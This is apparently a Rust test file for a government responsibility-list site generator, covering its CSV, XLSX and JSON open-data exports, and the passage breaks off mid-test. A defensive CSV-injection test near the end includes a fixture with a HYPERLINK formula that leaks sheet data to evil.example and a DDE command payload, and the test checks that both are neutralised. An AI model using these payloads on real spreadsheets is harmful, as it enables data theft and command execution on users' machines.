//! Open data: every list as CSV (UTF-8 with BOM), XLSX and JSON, all items in one CSV, the
//! JSON Schemas, `datapackage.json` and the data page, checked against the model loaded from
//! the same sources. Also: two builds give identical bytes (XLSX included), and what is
//! exported imports back to the same items.

use crate::common;

use calamine::{Data, Reader, Xlsx};
use common::{qingdan, tags, TempDir};
use qingdan::derive::{Index, Values};
use qingdan::export::dictionary::{self, Column};
use qingdan::model::{Field, Item, ItemList, Part, Site};
use serde_json::Value;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

const BOM: &[u8] = b"\xEF\xBB\xBF";

/// The starter site, with items that exercise the awkward cases: sub-items (multi-valued),
/// the publisher's extra columns, quotes, commas and line breaks, a suspended item.
fn starter(tmp: &TempDir) -> PathBuf {
    let root = tmp.join("site");
    let run = qingdan([Path::new("init"), &root]);
    assert_eq!(run.code, 0, "{run}");
    let list = root.join("content/lists/dongcun.toml");
    let mut text = std::fs::read_to_string(&list).unwrap();
    // Inserted before [[support]] so the list stays in part order.
    let extra = r#"
[[basic]]
code = "DC-QR-009"
number = "4"
name = "对\"一户一宅\"情况的确认, 含多行"
sub_items = ["宅基地使用权确认", "房屋权属确认，需现场核查"]
type = "行政确认"
origin = "延伸"
department = "zhujian"
status = "暂缓"
basis = """【法规】《村庄和集镇规划建设管理条例》第十八条：
第一款内容，"引号"和,逗号。
第二行。"""
note = "备注：第一行\n第二行"
extra = { "原表批次" = "第二批", "联系人" = "张三, 李四" }
events = ["建房", "养老"]

[basic.guide]
service_code = "11330000MB0000000X01000001"
conditions = "本村村民，\"一户一宅\"；\n第二行"
legal_limit = "20个工作日"
promised_limit = "5个工作日"
fee = false
visits = 1
result = "确认书"
online = "https://zwfw.example.gov.cn/item/1?a=b&c=d"
mobile = "https://m.example.gov.cn/i/1"

[[basic.guide.materials]]
name = "申请表（2025 版）"
form = "原件"
copies = 2
blank = "forms/申请表.docx"
sample = "forms/申请表-样表.docx"

[[basic.guide.materials]]
name = "户口簿（首页）"

[[basic.guide.steps]]
name = "受理"
limit = "即时"

[[basic.guide.steps]]
name = "审核, 含现场核查"

[[basic.guide.questions]]
question = "能代办吗？"
answer = "可以。\n带上委托书。"

"#;
    std::fs::create_dir_all(root.join("content/files/forms")).unwrap();
    for f in ["申请表.docx", "申请表-样表.docx"] {
        std::fs::write(root.join("content/files/forms").join(f), "form").unwrap();
    }
    let at = text.find("[[support]]").expect("starter has a support part");
    text.insert_str(at, extra);
    std::fs::write(&list, text).unwrap();
    root
}

fn build(root: &Path, out: &Path) {
    let run = qingdan([Path::new("build"), Path::new("--root"), root, Path::new("--out"), out]);
    assert_eq!(run.code, 0, "{run}");
}

fn load(root: &Path) -> Site {
    let loaded = qingdan::source::load(root);
    assert!(!loaded.diags.has_errors(), "sources of {} have errors", root.display());
    loaded.site
}

/// The lists that are exported: those whose body exists.
fn lists(site: &Site) -> Vec<&ItemList> {
    site.lists.iter().filter(|l| site.body(&l.body).is_some()).collect()
}

/// Item columns plus the list's extra columns in first-seen order.
fn headers(list: &ItemList) -> Vec<String> {
    let mut h: Vec<String> = dictionary::field_columns().iter().map(|c| c.header.clone()).collect();
    for item in &list.items {
        for (k, _) in &item.extra {
            if !h.contains(k) {
                h.push(k.clone());
            }
        }
    }
    h
}

/// What a cell under `header` must hold for `item`: the field's effective value (checked
/// against the model directly for the values with a default, see `effective_values_match`),
/// the departments' codes, or the publisher's extra column. A part's own header
/// (对应上级部门) means the same field.
fn cell_text(values: &Values, item: &Item, header: &str) -> String {
    let columns = dictionary::field_columns();
    let same = |c: &Column| {
        c.header == header || Part::ALL.iter().any(|p| c.header_in(*p) == header && c.header_in(*p) != c.header)
    };
    match columns.iter().find(|c| same(c)) {
        Some(c) => c.cell.of(values, item, &c.key).into_owned(),
        None => item.extra(header).to_string(),
    }
}

/// The history columns (首次发布 …) are derived from the releases, not from the sources read
/// here; tests/citable.rs checks their values on the example's releases.
fn derived(header: &str) -> bool {
    qingdan::derive::HistoryColumn::ALL.iter().any(|c| c.label() == header)
}

fn read_csv(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let bytes = std::fs::read(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    assert!(bytes.starts_with(BOM), "{} must start with the UTF-8 BOM", path.display());
    let mut r = csv::ReaderBuilder::new().has_headers(true).from_reader(&bytes[3..]);
    let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    let rows = r.records().map(|rec| rec.unwrap().iter().map(String::from).collect()).collect();
    (header, rows)
}

fn cell(range: &calamine::Range<Data>, row: u32, col: u32) -> String {
    match range.get_value((row, col)) {
        Some(Data::String(s)) => s.clone(),
        Some(Data::Empty) | None => String::new(),
        Some(other) => other.to_string(),
    }
}

fn check_csv(data: &Path, site: &Site, list: &ItemList) {
    let index = Index::new(site);
    let values = Values::of(&index, list);
    let (header, rows) = read_csv(&data.join(format!("{}.csv", list.body.value)));
    assert_eq!(header, headers(list), "{}.csv header", list.body.value);
    assert_eq!(rows.len(), list.items.len(), "{}.csv: one row per item", list.body.value);
    for (row, item) in rows.iter().zip(&list.items) {
        for (h, value) in header.iter().zip(row).filter(|(h, _)| !derived(h)) {
            let written = qingdan::export::csv::guard(&cell_text(&values, item, h)).into_owned();
            assert_eq!(*value, written, "{}.csv {} {h}", list.body.value, item.code.value);
        }
    }
}

fn check_xlsx(data: &Path, site: &Site, list: &ItemList, title: &str) {
    let index = Index::new(site);
    let values = Values::of(&index, list);
    let path = data.join(format!("{}.xlsx", list.body.value));
    let mut wb: Xlsx<_> = calamine::open_workbook(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let parts: Vec<Part> = Part::ALL.into_iter().filter(|p| list.part(*p).next().is_some()).collect();
    let expected: Vec<&str> =
        if parts.is_empty() { vec![Part::Basic.name()] } else { parts.iter().map(|p| p.name()).collect() };
    assert_eq!(wb.sheet_names(), expected, "{}.xlsx sheets", list.body.value);
    assert_eq!(wb.workbook_properties().unwrap().title.as_deref(), Some(title));
    for part in parts {
        let name = part.name();
        let range = wb.worksheet_range(name).unwrap();
        assert_eq!(cell(&range, 0, 0), title, "{}.xlsx {name}: title row", list.body.value);
        let merges = wb.merge_cells_by_sheet_name(name).unwrap();
        let header: Vec<String> =
            (0..range.end().unwrap().1 + 1).map(|c| cell(&range, 2, c)).take_while(|h| !h.is_empty()).collect();
        assert!(
            merges.iter().any(|d| d.start == (0, 0) && d.end == (0, header.len() as u32 - 1)),
            "{}.xlsx {name}: the title is merged across the table",
            list.body.value
        );
        if let Some(doc) = &list.document {
            assert!(
                cell(&range, 1, 0).contains(doc.as_str()),
                "{}.xlsx {name}: document number under the title",
                list.body.value
            );
        }
        for must in ["序号", "事项编码", "事项名称", "清单部分"] {
            assert!(header.iter().any(|h| h == must), "{}.xlsx {name}: header {must} in {header:?}", list.body.value);
        }
        let all = headers(list);
        let generic = |h: &String| {
            dictionary::field_columns()
                .iter()
                .find(|c| c.header_in(part) == h)
                .map(|c| c.header.clone())
                .unwrap_or(h.clone())
        };
        let order: Vec<usize> =
            header.iter().map(|h| all.iter().position(|a| *a == generic(h)).expect("known header")).collect();
        let note = all.iter().position(|h| h == "备注").unwrap();
        assert_eq!(&order[order.len() - 2..], [note, 0], "{name}: 备注 then 清单部分 last");
        let rest = &order[..order.len() - 2];
        assert!(rest.windows(2).all(|w| w[0] < w[1]), "{name}: other columns in declaration order");
        let items: Vec<&Item> = list.part(part).collect();
        let last = range.end().unwrap().0;
        assert_eq!((last - 2) as usize, items.len(), "{}.xlsx {name}: item count", list.body.value);
        for (r, item) in items.iter().enumerate() {
            for (c, h) in header.iter().enumerate().filter(|(_, h)| !derived(h)) {
                let value = cell(&range, 3 + r as u32, c as u32);
                assert_eq!(
                    value,
                    cell_text(&values, item, h),
                    "{}.xlsx {name} {} {h}",
                    list.body.value,
                    item.code.value
                );
            }
        }
        // Every column left out is empty (or 实施, the default status) for the whole part.
        let shown: Vec<String> = header.iter().map(generic).collect();
        for h in all.iter().filter(|h| !shown.contains(h)) {
            for item in &items {
                let v = cell_text(&values, item, h);
                assert!(
                    v.is_empty() || (h == "状态" && v == "实施"),
                    "{name}: {h} left out but {} has {v:?}",
                    item.code.value
                );
            }
        }
    }
}

fn check_json(data: &Path, site: &Site, list: &ItemList, title: &str) {
    let index = Index::new(site);
    let values = Values::of(&index, list);
    let path = data.join(format!("{}.json", list.body.value));
    let json: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let schema: Value = serde_json::from_slice(&std::fs::read(data.join("schema/list.json")).unwrap()).unwrap();
    let schema_ref = match &site.config.base_url {
        Some(base) => format!("{}/data/schema/list.json", base.trim_end_matches('/')),
        None => "schema/list.json".into(),
    };
    assert_eq!(json["schema"], schema_ref.as_str());
    assert_eq!(json["title"], title);
    assert_eq!(json["body"]["code"], list.body.value.as_str());
    assert_eq!(json["body"]["name"], site.body(&list.body).unwrap().name.as_str());
    assert_eq!(json["document"], list.document.as_deref().map(Value::from).unwrap_or(Value::Null));
    assert_eq!(json["effective"], list.effective.map(|d| Value::from(d.to_string())).unwrap_or(Value::Null));
    let top: Vec<&str> = schema["required"].as_array().unwrap().iter().map(|v| v.as_str().unwrap()).collect();
    assert_eq!(json.as_object().unwrap().keys().map(String::as_str).collect::<Vec<_>>().len(), top.len());
    let required: Vec<&str> =
        schema["$defs"]["item"]["required"].as_array().unwrap().iter().map(|v| v.as_str().unwrap()).collect();
    let items = json["items"].as_array().unwrap();
    assert_eq!(items.len(), list.items.len());
    for (j, item) in items.iter().zip(&list.items) {
        let keys: Vec<&str> = j.as_object().unwrap().keys().map(String::as_str).collect();
        let mut expected = required.clone();
        expected.sort();
        let mut keys = keys.clone();
        keys.sort();
        assert_eq!(keys, expected, "{} item keys follow the schema", list.body.value);
        assert_eq!(j["code"], item.code.value.as_str());
        assert_eq!(j["name"], item.name.as_str());
        assert_eq!(j["part"], item.part.name());
        let status = if item.part == Part::Basic { Value::from(item.status.name()) } else { Value::Null };
        assert_eq!(j["status"], status);
        assert_eq!(j["basis"]["text"], item.basis.text.as_str());
        assert_eq!(j["basis"]["sources"].as_array().unwrap().len(), item.basis.sources.len());
        assert_eq!(j["sub_items"], Value::from(item.sub_items.clone()));
        match &item.power_type {
            Some(t) => {
                assert_eq!(j["type"]["raw"], t.raw.as_str());
                assert_eq!(j["type"]["official"], t.official.map(|o| Value::from(o.name())).unwrap_or(Value::Null));
            }
            None => assert!(j["type"].is_null()),
        }
        for c in dictionary::field_columns() {
            let key = c.key.as_str();
            if ["sub_items", "type", "basis"].contains(&key) || derived(&c.header) {
                continue;
            }
            // The 办事指南 is one structured object, compared below.
            if matches!(c.cell, dictionary::Cell::Field(f) if f.spec().kind == qingdan::model::Kind::Guide) {
                assert!(j.get(key).is_none(), "{key} is inside `guide`");
                continue;
            }
            let text = cell_text(&values, item, &c.header);
            let want = match c.value {
                dictionary::ValueType::Lines | dictionary::ValueType::Codes => {
                    Value::from(text.lines().filter(|l| !l.is_empty()).collect::<Vec<_>>())
                }
                _ if text.is_empty() => Value::Null,
                _ => Value::from(text),
            };
            assert_eq!(j[key], want, "{} {} {key}", list.body.value, item.code.value);
        }
        assert_eq!(j["guide"], serde_json::to_value(&item.guide).unwrap(), "{} guide", item.code.value);
        let extra: Vec<(String, String)> =
            j["extra"].as_object().unwrap().iter().map(|(k, v)| (k.clone(), v.as_str().unwrap().to_string())).collect();
        assert_eq!(extra, item.extra);
    }
}

/// Table Schema fields of a resource: inline, or in the shared file it names.
fn resource_fields(data: &Path, resource: &Value) -> Vec<String> {
    let schema = match &resource["schema"] {
        Value::String(path) => serde_json::from_slice(&std::fs::read(data.join(path)).unwrap()).unwrap(),
        inline => inline.clone(),
    };
    schema["fields"].as_array().unwrap().iter().map(|f| f["name"].as_str().unwrap().to_string()).collect()
}

fn check_datapackage(data: &Path, site: &Site) {
    let package: Value = serde_json::from_slice(&std::fs::read(data.join("datapackage.json")).unwrap()).unwrap();
    assert_eq!(package["profile"], "tabular-data-package");
    let name = package["name"].as_str().unwrap();
    assert!(name.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "-._".contains(c)), "{name}");
    let resources = package["resources"].as_array().unwrap();
    let csvs: Vec<String> = std::fs::read_dir(data)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .filter(|n| n.ends_with(".csv"))
        .collect();
    assert_eq!(resources.len(), csvs.len(), "one resource per CSV");
    let mut names = Vec::new();
    for r in resources {
        let path = r["path"].as_str().unwrap();
        assert!(!path.contains("..") && !path.starts_with('/'), "{path}");
        let file = data.join(path);
        assert!(file.is_file(), "resource {path} exists");
        assert_eq!(r["format"], "csv");
        assert_eq!(r["profile"], "tabular-data-resource");
        assert_eq!(r["bytes"].as_u64().unwrap(), std::fs::metadata(&file).unwrap().len(), "{path} bytes");
        let (header, rows) = read_csv(&file);
        assert_eq!(resource_fields(data, r), header, "{path}: fields match the CSV header");
        let schema = match &r["schema"] {
            Value::String(p) => serde_json::from_slice(&std::fs::read(data.join(p)).unwrap()).unwrap(),
            inline => inline.clone(),
        };
        // The primary key identifies rows.
        let key: Vec<usize> = schema["primaryKey"]
            .as_array()
            .map(|k| {
                k.iter()
                    .map(|n| header.iter().position(|h| h == n.as_str().unwrap()).expect("key is a column"))
                    .collect()
            })
            .unwrap_or_default();
        if !key.is_empty() {
            let mut seen = std::collections::HashSet::new();
            for row in &rows {
                assert!(seen.insert(key.iter().map(|&i| row[i].clone()).collect::<Vec<_>>()), "{path}: duplicate key");
            }
        }
        // Declared types hold.
        for (f, field) in schema["fields"].as_array().unwrap().iter().enumerate() {
            for row in &rows {
                let v = &row[f];
                if v.is_empty() {
                    continue;
                }
                match field["type"].as_str().unwrap() {
                    "date" => {
                        assert!(qingdan::model::Date::parse(v).is_some_and(|d| d.to_string() == *v), "{path}: {v}")
                    }
                    "boolean" => assert!(v == "是" || v == "否", "{path}: {v}"),
                    _ => {}
                }
                if let Some(values) = field["constraints"]["enum"].as_array() {
                    assert!(values.iter().any(|x| x == v.as_str()), "{path}: {v} not in {values:?}");
                }
            }
        }
        names.push(r["name"].as_str().unwrap().to_string());
    }
    let mut sorted = names.clone();
    sorted.sort();
    sorted.dedup();
    assert_eq!(sorted.len(), names.len(), "resource names are unique");
    assert!(names.contains(&"all-items".to_string()));
    // all-items.csv: every item of every list, with its body first.
    let (header, rows) = read_csv(&data.join("all-items.csv"));
    assert_eq!(&header[..2], ["实施主体代码", "实施主体"]);
    let all: Vec<(&ItemList, &Item)> =
        lists(site).into_iter().flat_map(|l| l.items.iter().map(move |i| (l, i))).collect();
    assert_eq!(rows.len(), all.len());
    let mut by_key: BTreeMap<(String, String), &Vec<String>> = BTreeMap::new();
    let code = header.iter().position(|h| h == "事项编码").unwrap();
    for row in &rows {
        by_key.insert((row[0].clone(), row[code].clone()), row);
    }
    let index = Index::new(site);
    for (list, item) in all {
        let values = Values::of(&index, list);
        let row = by_key[&(list.body.value.clone(), item.code.value.clone())];
        assert_eq!(row[1], site.body(&list.body).unwrap().name);
        for (h, v) in header.iter().zip(row.iter()).skip(2).filter(|(h, _)| !derived(h)) {
            assert_eq!(*v, cell_text(&values, item, h), "all-items.csv {} {h}", item.code.value);
        }
    }
}

/// The data page names every file in data/ with its size.
fn check_data_page(out: &Path) {
    let data = out.join("data");
    let page = std::fs::read_to_string(data.join("index.html")).unwrap();
    let tags = tags(&page);
    let mut linked: BTreeMap<String, u64> = BTreeMap::new();
    for (i, t) in tags.iter().enumerate() {
        if t.name != "a" {
            continue;
        }
        let Some(href) = t.attr("href") else { continue };
        // Pages, anchors and other schemes (the footer's tel: link) are not data files.
        if href.contains('/') && !href.starts_with("schema/")
            || href.ends_with(".html")
            || href.starts_with('#')
            || href.contains(':')
        {
            continue;
        }
        let size = tags[i + 1..].iter().find(|s| s.attr("data-bytes").is_some()).and_then(|s| s.attr("data-bytes"));
        linked.insert(href.to_string(), size.expect("a size after each download").parse().unwrap());
    }
    let mut files: BTreeMap<String, u64> = BTreeMap::new();
    for entry in walk(&data) {
        let rel = entry.strip_prefix(&data).unwrap().to_string_lossy().replace('\\', "/");
        // data/releases/ belongs to the release pages (history), which list their own files.
        if rel != "index.html" && !rel.starts_with("releases/") {
            files.insert(rel, std::fs::metadata(&entry).unwrap().len());
        }
    }
    assert_eq!(linked, files, "the data page lists every data file with its size in bytes");
    for (file, bytes) in &files {
        let kb = format!("{:.1} KB", *bytes as f64 / 1024.0);
        let mb = format!("{:.1} MB", *bytes as f64 / 1024.0 / 1024.0);
        assert!(page.contains(&kb) || page.contains(&mb), "{file}: size shown");
    }
    for section in ["数据字典", "含义", "类型", "<caption>", "scope=\"col\"", "scope=\"row\""] {
        assert!(page.contains(section), "data page has {section}");
    }
    for f in Field::ALL {
        let (key, header) = (f.key(), f.label());
        assert!(page.contains(&format!("<code>{key}</code>")) && page.contains(header), "dictionary lists {key}");
    }
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out.sort();
    out
}

/// The body pages link to their three downloads, and the links resolve.
fn check_body_links(out: &Path, list: &ItemList) {
    let page = out.join(&list.body.value).join("index.html");
    let html = std::fs::read_to_string(&page).unwrap();
    let hrefs: Vec<String> = tags(&html).iter().filter_map(|t| t.attr("href").map(String::from)).collect();
    for format in ["csv", "xlsx", "json"] {
        let want = format!("../data/{}.{format}", list.body.value);
        assert!(hrefs.contains(&want), "{} links to {want}", page.display());
        assert!(out.join(want.trim_start_matches("../")).is_file());
    }
    assert!(hrefs.iter().any(|h| h == "../data/index.html"));
}

fn check_site(root: &Path, out: &Path) {
    let site = load(root);
    let data = out.join("data");
    for list in lists(&site) {
        let body = site.body(&list.body).unwrap();
        let title = list.title.clone().unwrap_or_else(|| {
            format!("{}{}", body.name, if body.kind.is_grassroots() { "履行职责事项清单" } else { "权责清单" })
        });
        check_csv(&data, &site, list);
        check_xlsx(&data, &site, list, &title);
        check_json(&data, &site, list, &title);
        check_body_links(out, list);
    }
    for (present, stem) in
        [(site.territorial.is_some(), "territorial"), (site.admission.is_some(), "admission"), (true, "bodies")]
    {
        for format in ["csv", "xlsx", "json"] {
            assert_eq!(data.join(format!("{stem}.{format}")).is_file(), present, "{stem}.{format}");
        }
    }
    for c in &site.catalogs {
        let (header, rows) = read_csv(&data.join(format!("guidance-{}.csv", c.id.value)));
        assert_eq!(rows.len(), c.items.len());
        let grassroots = site.bodies.iter().filter(|b| b.kind.is_grassroots()).count();
        assert_eq!(header.len(), 7 + grassroots, "one coverage column per township");
    }
    if let Some(t) = &site.territorial {
        let (_, rows) = read_csv(&data.join("territorial.csv"));
        assert_eq!(rows.len(), t.matters.len());
        let json: Value = serde_json::from_slice(&std::fs::read(data.join("territorial.json")).unwrap()).unwrap();
        assert_eq!(json["matters"].as_array().unwrap().len(), t.matters.len());
        assert_eq!(json["matters"][0]["name"], t.matters[0].name.as_str());
    }
    if let Some(a) = &site.admission {
        let (_, rows) = read_csv(&data.join("admission.csv"));
        assert_eq!(rows.len(), a.items.len());
        let json: Value = serde_json::from_slice(&std::fs::read(data.join("admission.json")).unwrap()).unwrap();
        assert_eq!(json["items"].as_array().unwrap().len(), a.items.len());
    }
    let (_, rows) = read_csv(&data.join("bodies.csv"));
    assert_eq!(rows.len(), site.bodies.len());
    for name in ["list", "territorial", "admission", "guidance", "bodies"] {
        let schema: Value =
            serde_json::from_slice(&std::fs::read(data.join(format!("schema/{name}.json"))).unwrap()).unwrap();
        assert_eq!(schema["$schema"], "https://json-schema.org/draft/2020-12/schema");
    }
    check_datapackage(&data, &site);
    check_data_page(out);
}

#[test]
fn the_starter_exports_every_list() {
    let tmp = TempDir::new("export-starter");
    let root = starter(&tmp);
    let out = tmp.join("public");
    build(&root, &out);
    check_site(&root, &out);
    // The awkward item survives as written.
    let (header, rows) = read_csv(&out.join("data/dongcun.csv"));
    let row = rows.iter().find(|r| r[2] == "DC-QR-009").unwrap();
    assert_eq!(row[header.iter().position(|h| h == "子项名称").unwrap()], "宅基地使用权确认\n房屋权属确认，需现场核查");
    assert_eq!(row[header.iter().position(|h| h == "联系人").unwrap()], "张三, 李四");
    assert_eq!(row[header.iter().position(|h| h == "状态").unwrap()], "暂缓");
}

#[test]
fn the_bundled_example_exports_every_list() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    if !root.join("qingdan.toml").is_file() {
        return;
    }
    let tmp = TempDir::new("export-example");
    let out = tmp.join("public");
    build(root, &out);
    check_site(root, &out);
}

#[test]
fn two_builds_give_identical_data_files() {
    let tmp = TempDir::new("export-determinism");
    let root = starter(&tmp);
    let (a, b) = (tmp.join("a"), tmp.join("b"));
    build(&root, &a);
    // XLSX creation dates come from the lists, never the clock.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    build(&root, &b);
    let (fa, fb) = (walk(&a.join("data")), walk(&b.join("data")));
    assert_eq!(fa.len(), fb.len());
    for (x, y) in fa.iter().zip(&fb) {
        assert_eq!(x.strip_prefix(&a).unwrap(), y.strip_prefix(&b).unwrap());
        assert!(std::fs::read(x).unwrap() == std::fs::read(y).unwrap(), "{} differs between builds", x.display());
    }
}

/// Imports `file` as the list of `body` into a copy of `root` without that list, and loads it.
fn import_into_copy(root: &Path, tmp: &TempDir, tag: &str, body: &str, file: &Path) -> Site {
    let copy = tmp.join(tag);
    common::copy_dir(root, &copy);
    std::fs::remove_file(copy.join(format!("content/lists/{body}.toml"))).unwrap();
    let run = qingdan([Path::new("import"), Path::new("--root"), &copy, Path::new("--into"), Path::new(body), file]);
    assert_eq!(run.code, 0, "qingdan import {}: {run}", file.display());
    load(&copy)
}

fn assert_same_items(what: &str, original: &ItemList, imported: &ItemList) {
    assert_eq!(
        imported.items.iter().map(|i| i.code.value.as_str()).collect::<Vec<_>>(),
        original.items.iter().map(|i| i.code.value.as_str()).collect::<Vec<_>>(),
        "{what}: same items in the same order"
    );
    for (a, b) in original.items.iter().zip(&imported.items) {
        for f in Field::ALL {
            assert_eq!(b.text(*f), a.text(*f), "{what}: {} {}", a.code.value, f.label());
        }
        assert_eq!(b.extra, a.extra, "{what}: {} extra columns", a.code.value);
        let json = |i: &Item| serde_json::to_value(&i.guide).unwrap();
        assert_eq!(json(b), json(a), "{what}: {} 办事指南", a.code.value);
        assert_eq!(b.events, a.events, "{what}: {} 一件事", a.code.value);
    }
    assert!(original
        .items
        .iter()
        .any(|i| i.guide.as_ref().is_some_and(|g| g.materials.len() == 2 && g.questions.len() == 1)));
}

#[test]
fn exported_csv_and_xlsx_import_back_to_the_same_items() {
    let tmp = TempDir::new("export-roundtrip");
    let root = starter(&tmp);
    let out = tmp.join("public");
    build(&root, &out);
    let site = load(&root);
    let original = site.list("dongcun").unwrap();
    for format in ["csv", "xlsx"] {
        let file = out.join(format!("data/dongcun.{format}"));
        let imported = import_into_copy(&root, &tmp, &format!("import-{format}"), "dongcun", &file);
        let list = imported.list("dongcun").unwrap_or_else(|| panic!("{format}: import wrote no list"));
        assert_same_items(format, original, list);
    }
}

/// docs/data.md explains every column of every exported table, under the same key and header.
#[test]
fn the_docs_describe_every_column() {
    use qingdan::export::dictionary;
    let docs = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/data.md")).unwrap();
    let all = [
        dictionary::item_columns([]),
        dictionary::matter_columns(),
        dictionary::admission_columns(),
        dictionary::guidance_columns(),
        dictionary::body_list_columns(),
        dictionary::overview_township_columns(),
        dictionary::overview_category_columns(),
        dictionary::overview_department_columns(),
        dictionary::overview_difference_columns(),
    ];
    for c in all.iter().flatten() {
        let row = format!("| `{}` | {} | {} |", c.key, c.header, c.meaning);
        assert!(docs.contains(&row), "docs/data.md lacks the row of {} ({})", c.key, c.header);
    }
}

// ---------------------------------------------------------------------------------------------
// Formula injection (OWASP "CSV Injection")

/// First characters that make Excel, WPS or LibreOffice run a CSV cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// An item whose cells begin like formulas: attacks (a HYPERLINK that leaks the sheet, a DDE
/// command), values that legitimately start the same way (a dash for "none", a negative
/// number, an international phone number), and a value that already starts with the quote.
const FORMULA_ITEM: &str = r#"
[[basic]]
code = "DC-QT-099"
number = "-1"
name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"
sub_items = ["+1+1", "@SUM(1+1)*cmd|' /C calc'!A0"]
type = "行政确认"
origin = "法定"
subject = "-"
basis = "\t=1+1 以制表符开头的依据"
note = "\r=2+3 以回车开头的备注"
supervision_phone = "+86 571 12345"
extra = { "原表说明" = "'=已有单引号", "负数" = "-3", "两个引号" = "''@x", "普通" = "'不变" }

"#;

/// Every cell of a CSV file (header included), parsed as a spreadsheet program reads it.
fn csv_cells(bytes: &[u8]) -> Vec<String> {
    let body = bytes.strip_prefix(BOM).unwrap_or(bytes);
    let mut r = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(body);
    r.records().flat_map(|rec| rec.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect()
}

#[test]
fn formula_looking_cells_are_neutralised_in_every_csv_and_import_back_exactly() {
    let tmp = TempDir::new("export-formulas");
    let root = starter(&tmp);
    let list = root.join("content/lists/dongcun.toml");
    let text = std::fs::read_to_string(&list).unwrap();
    let at = text.find("[[support]]").unwrap();
    std::fs::write(&list, format!("{}{FORMULA_ITEM}{}", &text[..at], &text[at..])).unwrap();
    let body = root.join("content/bodies/dongcun.toml");
    let text = std::fs::read_to_string(&body).unwrap().replacen(
        "phone = \"0571-00000100\"",
        "phone = \"+86 571 00000100\"",
        1,
    );
    std::fs::write(&body, text).unwrap();
    let root_arg = root.to_str().unwrap();
    let run = qingdan([
        "release",
        "--root",
        root_arg,
        "--title",
        "首次公布",
        "--effective",
        "2025-10-01",
        "--document",
        "示编办〔2025〕1号",
    ]);
    assert_eq!(run.code, 0, "{run}");
    // A change after the release, so the diff has formula-looking old and new values.
    let text = std::fs::read_to_string(&list).unwrap().replacen("subject = \"-\"", "subject = \"=1-1\"", 1);
    std::fs::write(&list, text).unwrap();
    let out = tmp.join("public");
    build(&root, &out);

    // Every CSV the site publishes: no cell begins like a formula.
    let csvs: Vec<PathBuf> = walk(&out).into_iter().filter(|p| p.extension().is_some_and(|e| e == "csv")).collect();
    for must in ["data/dongcun.csv", "data/all-items.csv", "data/bodies.csv"] {
        assert!(csvs.contains(&out.join(must)), "{must} was not written");
    }
    let mut release_csvs_with_item = 0;
    for path in &csvs {
        let bytes = std::fs::read(path).unwrap();
        let cells = csv_cells(&bytes);
        for c in &cells {
            assert!(!c.starts_with(FORMULA_START), "{}: cell {c:?} would run as a formula", path.display());
        }
        if cells.iter().any(|c| c == "DC-QT-099")
            && !path.ends_with("data/dongcun.csv")
            && !path.ends_with("data/all-items.csv")
        {
            release_csvs_with_item += 1;
        }
    }
    assert!(release_csvs_with_item > 0, "no release CSV holds the item: {csvs:#?}");
    // The quote prefix is the only change, and only where needed.
    let (header, rows) = read_csv(&out.join("data/dongcun.csv"));
    let row = rows.iter().find(|r| r.contains(&"DC-QT-099".to_string())).unwrap();
    let col = |h: &str| &row[header.iter().position(|x| x == h).unwrap_or_else(|| panic!("no column {h}"))];
    assert_eq!(col("事项名称"), "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")");
    assert_eq!(col("序号"), "'-1");
    assert_eq!(col("子项名称"), "'+1+1\n@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(col("行使主体"), "'=1-1");
    assert_eq!(col("实施依据"), "'\t=1+1 以制表符开头的依据");
    assert_eq!(col("备注"), "'\r=2+3 以回车开头的备注");
    assert_eq!(col("监督电话"), "'+86 571 12345");
    assert_eq!(col("原表说明"), "''=已有单引号");
    assert_eq!(col("负数"), "'-3");
    assert_eq!(col("两个引号"), "'''@x");
    assert_eq!(col("普通"), "'不变");
    assert_eq!(col("事项编码"), "DC-QT-099");
    let (header, rows) = read_csv(&out.join("data/bodies.csv"));
    let phone = header.iter().position(|h| h == "电话").unwrap();
    assert!(rows.iter().any(|r| r[phone] == "'+86 571 00000100"), "{rows:?}");

    // `qingdan diff --format csv` goes through the same writer.
    let run = qingdan(["diff", "2025-10-01", "current", "--root", root_arg, "--format", "csv"]);
    assert_eq!(run.code, 0, "{run}");
    let cells = csv_cells(run.stdout.as_bytes());
    assert!(cells.iter().any(|c| c == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"), "{}", run.stdout);
    assert!(cells.iter().any(|c| c == "'-") && cells.iter().any(|c| c == "'=1-1"), "{}", run.stdout);
    for c in &cells {
        assert!(!c.starts_with(FORMULA_START), "diff CSV: cell {c:?} would run as a formula");
    }

    // XLSX writes text as text: the formula-looking name is a string cell, not a formula.
    let mut wb: Xlsx<_> = calamine::open_workbook(out.join("data/dongcun.xlsx")).unwrap();
    let range = wb.worksheet_range(Part::Basic.name()).unwrap();
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";
    assert!(range.used_cells().any(|(_, _, d)| *d == Data::String(name.into())), "the name is a string cell");
    let formulas = wb.worksheet_formula(Part::Basic.name()).unwrap();
    assert_eq!(formulas.used_cells().count(), 0, "no formula in the XLSX");

    // Import undoes the prefix: export → import gives back every value, as the XLSX (which
    // has no prefix) does. Import trims white space at the ends of every cell, whatever the
    // format, so the tab and carriage return that began two values are not expected back.
    let site = load(&root);
    let original = site.list("dongcun").unwrap();
    let from_csv = import_into_copy(&root, &tmp, "import-formulas-csv", "dongcun", &out.join("data/dongcun.csv"));
